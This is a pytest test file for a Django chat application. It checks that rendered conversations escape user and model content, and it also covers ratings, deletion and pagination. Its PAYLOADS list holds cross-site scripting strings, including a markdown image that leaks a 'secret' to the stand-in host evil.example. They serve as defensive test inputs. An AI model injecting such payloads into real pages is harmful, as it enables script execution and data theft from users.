"""The pages without a model: what they show, and that it is inert."""

import json
import re
from html.parser import HTMLParser
from typing import Any

import pytest
from asgiref.sync import async_to_sync
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from pytest_django import DjangoAssertNumQueries, Settings

from apps.chat.conversations import services
from apps.chat.models import Conversation, Rating, Role, Status
from apps.servers.models import Server
from tests.chat.conftest import told
from tests.markup import visible_text

PAYLOADS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![x](http://evil.example/?q=secret)",
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "```html\n</code></pre><script>alert(1)</script>\n```",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div hx-get="/chat/" hx-trigger="load">x</div>',
]

OUR_FRAGMENTS = re.compile(r"/chat/(questions/\d+/edit/form/|answers/\d+/compare/|\d+/)")


def page(client: Client, conversation: Conversation) -> str:
    return client.get(reverse("chat:conversation", args=[conversation.pk])).content.decode()


def test_a_question_that_is_refused_leaves_no_conversation(
    alice: User, browser: Client, demo_server: Server, settings: Settings
) -> None:
    settings.LIMITS = settings.LIMITS | {"questions": 0}
    refused = browser.post(reverse("chat:create"), {"content": "Hello"})
    assert refused.status_code == 429
    assert not Conversation.objects.exists()


def test_chat_page_shows_starters_and_the_demo_notice(browser: Client, demo_server: Server) -> None:
    html = browser.get(reverse("chat:index")).content.decode()
    assert "What are you working on?" in html
    assert "What is the prompt cache?" in html
    assert "Demo model, only knows Workbench" in html


def test_without_a_server_it_says_what_to_do(browser: Client) -> None:
    assert "No server set for chat" in browser.get(reverse("chat:index")).content.decode()


def test_another_model_is_not_the_demo(browser: Client, demo_server: Server) -> None:
    demo_server.stored_facts = {"models": [{"id": "qwen"}]}
    demo_server.save()
    assert "Demo model, only" not in browser.get(reverse("chat:index")).content.decode()


@pytest.mark.parametrize("payload", PAYLOADS)
def test_thread_escapes_html_of_messages(
    alice: User, browser: Client, demo_server: Server, payload: str
) -> None:
    html = page(browser, told(alice, payload, payload, reasoning=payload))
    thread = html[html.index('id="thread"') : html.index("data-composer")]
    elements = Elements(thread)
    assert not {"script", "img", "iframe", "object", "style", "form"} & elements.tags
    for name, value in elements.attributes:
        assert not name.startswith("on")
        assert name != "hx-get" or OUR_FRAGMENTS.match(value)
        ours = ("http://", "https://", "#", "/static/img/")
        assert name not in {"href", "src"} or value.startswith(ours)


class Elements(HTMLParser):
    """What a browser would make of it."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes.extend((name, value or "") for name, value in attrs)


def test_an_inert_title(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "Hello", "Hi")
    title = '"><script>alert(1)</script>'
    renamed = browser.post(reverse("chat:rename", args=[conversation.pk]), {"title": title})
    assert b"<script>" not in renamed.content
    assert "<script>alert" not in page(browser, conversation)
    conversation.refresh_from_db()
    assert conversation.title == title


def test_markdown_and_numbers(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(
        alice, "Hello", "A **bold** word", prompt_tokens=200, cached_tokens=150,
        completion_tokens=84, ttft_ms=123.4, tokens_per_second=41.23,
    )  # fmt: skip
    html = page(browser, conversation)
    assert "<strong>bold</strong>" in html
    figures = visible_text(html)
    for shown in ("84 tokens", "41.2 tokens/s", "123 ms", "200 tokens", "150 tokens, 75%"):
        assert shown in figures


def test_numbers_that_a_server_does_not_report_are_not_guessed(
    alice: User, browser: Client, demo_server: Server
) -> None:
    unknown = visible_text(page(browser, told(alice, "Hello", "Hi", prompt_tokens=312)))
    assert "Prompt 312 tokens Cached not reported" in unknown
    none = told(alice, "Hello", "Hi", prompt_tokens=400, cached_tokens=0)
    assert "Cached 0 tokens, 0%" in visible_text(page(browser, none))


def downloaded(browser: Client, address: str) -> str:
    response: Any = browser.get(address)

    async def read() -> str:
        return "".join([part.decode() async for part in response.streaming_content])

    return async_to_sync(read)()


@pytest.mark.django_db(transaction=True)
def test_an_answer_is_rated_with_a_note(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "Hello", "Hi", model="m")
    answer = conversation.active_leaf
    assert answer is not None
    address = reverse("chat:rate", args=[answer.pk])
    html = browser.post(address, {"rating": "down"}).content.decode()
    assert 'name="note"' in html
    browser.post(address, {"rating": "down", "note": " too short "})
    answer.refresh_from_db()
    assert (answer.rating, answer.rating_note) == (Rating.DOWN, "too short")
    assert 'title="too short"' in page(browser, conversation)
    assert json.loads(downloaded(browser, reverse("chat:export_ratings"))) == {
        "prompt": "Hello", "answer": "Hi", "rating": "down", "note": "too short",
        "model": "m", "server": "",
    }  # fmt: skip
    browser.post(address, {"rating": "down"})  # a second click
    answer.refresh_from_db()
    assert (answer.rating, answer.rating_note) == (None, "")


@pytest.mark.django_db(transaction=True)
def test_ratings_over_the_api(alice: User, bob: User, browser: Client) -> None:
    answer = told(alice, "Hello", "Hi").active_leaf
    assert answer is not None
    address = f"/api/v1/answers/{answer.pk}/rating"
    rated = browser.put(address, {"rating": "up", "note": "x"}, content_type="application/json")
    assert (rated.json()["rating"], rated.json()["rating_note"]) == ("up", "x")
    assert '"rating": "up"' in downloaded(browser, "/api/v1/ratings")
    wrong = browser.put(address, {"rating": "best"}, content_type="application/json")
    assert wrong.status_code == 422
    browser.force_login(bob)
    refused = browser.put(address, {"rating": "up"}, content_type="application/json")
    assert refused.status_code == 404
    assert downloaded(browser, "/api/v1/ratings") == ""


def test_the_end_of_an_answer_comes_without_its_text(
    alice: User, browser: Client, demo_server: Server
) -> None:
    answer = told(alice, "Hello", "Some **text**", reasoning="Hm.", reasoning_ms=14_000).active_leaf
    assert answer is not None
    address = reverse("chat:answer", args=[answer.pk])
    html = browser.get(address, {"part": "end"}).content.decode()
    assert "<strong>text" not in html
    assert "Regenerate" in html
    assert "Thought for 14.0 s" in visible_text(html)
    assert "<strong>text" in browser.get(address).content.decode()


def test_a_failure_is_a_sentence_and_a_retry(
    alice: User, browser: Client, demo_server: Server
) -> None:
    conversation = told(
        alice, "Hello", "", status=Status.FAILED, error_code="unreachable",
        error_detail="Nobody answers.",
    )  # fmt: skip
    html = page(browser, conversation)
    assert "Nobody answers." in html
    assert "Retry" in html
    note = "Messages without an answer are sent together with your next one."
    assert note in html
    begun = told(alice, "Hello", "It is", status=Status.FAILED, error_code="unreachable")
    assert note not in page(browser, begun)


def test_the_cut_is_shown(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "one", "two", "three", "four")
    kept = conversation.messages.get(content="three")
    conversation.messages.filter(content="four").update(
        cut_before_message=kept.pk, prompt_tokens=900
    )
    html = page(browser, conversation)
    assert html.index("two") < html.index("no longer") < html.index("three")
    assert "2,048 tokens" in html


def test_siblings(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "Hello", "First answer")
    question, first = conversation.messages.all()
    second = conversation.messages.create(
        parent=question, role=Role.ASSISTANT, content="Second answer"
    )
    assert "1/2" in page(browser, conversation)
    shown = browser.post(reverse("chat:select_version", args=[second.pk])).content.decode()
    assert "2/2" in shown
    assert "Second answer" in shown
    assert "First answer" not in shown
    browser.post(reverse("chat:select_version", args=[first.pk]))
    assert "First answer" in page(browser, conversation)


def test_delete(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "Hello", "Hi")
    response = browser.post(reverse("chat:delete", args=[conversation.pk]), follow=True)
    assert "deleted." in response.content.decode()
    address = reverse("chat:conversation", args=[conversation.pk])
    assert browser.get(address).status_code == 404
    back = browser.post(reverse("chat:undo", args=[conversation.pk]), follow=True)
    assert back.redirect_chain[-1][0] == address
    assert "1 chat restored." in back.content.decode()


def test_an_empty_question(alice: User, browser: Client, demo_server: Server) -> None:
    conversation = told(alice, "Hello", "Hi")
    response = browser.post(
        reverse("chat:send_message", args=[conversation.pk]), {"content": " \n"}
    )
    assert response.status_code == 422
    assert "The message is empty" in response.content.decode()
    assert conversation.messages.count() == 2


def test_older_conversations(alice: User, browser: Client, demo_server: Server) -> None:
    for number in range(60):
        services.open_conversation(owner=alice, title=f"Conversation {number:02d}")
    html = browser.get(reverse("chat:index")).content.decode()
    assert "Conversation 59" in html
    assert "Conversation 09" not in html
    older = browser.get(reverse("chat:older_chats") + "?from=50").content.decode()
    assert "Conversation 09" in older
    assert "Older conversations" not in older


def test_the_number_of_queries_is_constant(
    alice: User,
    browser: Client,
    demo_server: Server,
    django_assert_num_queries: DjangoAssertNumQueries,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr("apps.servers.targets.KNOWN_SECONDS", 600)
    conversation = told(alice, "Hello", "Hi")
    page(browser, conversation)
    with django_assert_num_queries(16, exact=True):
        page(browser, conversation)
    for _ in range(10):
        told(alice, *["Hello", "Hi"] * 5)
    longer = told(alice, *["Hello", "Hi"] * 20)
    with django_assert_num_queries(16, exact=True):
        page(browser, longer)


def test_a_long_conversation_comes_in_parts(
    alice: User, browser: Client, bobs_browser: Client, demo_server: Server
) -> None:
    conversation = told(alice, *[f"Message {n}." for n in range(150)])
    html = page(browser, conversation)
    assert "120 earlier messages" in html
    assert ">Message 120.<" in html
    assert "Message 119." not in html
    ids = list(conversation.messages.order_by("pk").values_list("pk", flat=True))
    address = reverse("chat:earlier_messages", args=[conversation.pk, ids[60]])
    before = browser.get(address).content.decode()
    assert "30 earlier messages" in before
    assert "Message 59." in before
    assert "Message 60." not in before
    first = browser.get(
        reverse("chat:earlier_messages", args=[conversation.pk, ids[30]])
    ).content.decode()
    assert "earlier message" not in first
    assert bobs_browser.get(address).status_code == 404


def test_what_was_sought_is_in_the_first_part(
    alice: User, browser: Client, demo_server: Server
) -> None:
    conversation = told(alice, *[f"Message {n}." for n in range(150)])
    sought = conversation.messages.get(content="Message 20.")
    address = reverse("chat:conversation", args=[conversation.pk])
    html = browser.get(address, {"message": sought.pk}).content.decode()
    assert "16 earlier messages" in html
    assert "Message 20." in html
    assert "Message 149." in html
